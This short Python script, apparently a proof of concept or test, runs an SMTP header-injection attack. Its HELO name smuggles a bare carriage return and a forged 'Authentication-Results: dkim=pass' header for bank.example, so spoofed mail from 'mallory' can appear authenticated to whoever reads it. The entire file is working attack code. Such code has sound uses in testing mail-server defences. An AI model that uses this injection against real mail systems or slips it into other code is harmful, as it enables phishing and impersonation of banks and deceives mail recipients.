"""A CR ends the field for whoever reads the mail, and the command line goes on."""
import socket


def attack(host, port):
    for name in ["bank.example\rAuthentication-Results: localhost; dkim=pass header.d=bank.example"]:
        with socket.create_connection((host, port), 10) as sock, sock.makefile("rwb") as stream:
            stream.readline()
            for line in ["HELO " + name, "MAIL FROM:<mallory@example.org>", "RCPT TO:<you@localhost>",
                         "DATA", "Subject: hello\r\n\r\nHello.\r\n.", "QUIT"]:
                stream.write(line.encode() + b"\r\n")
                stream.flush()
                stream.readline()
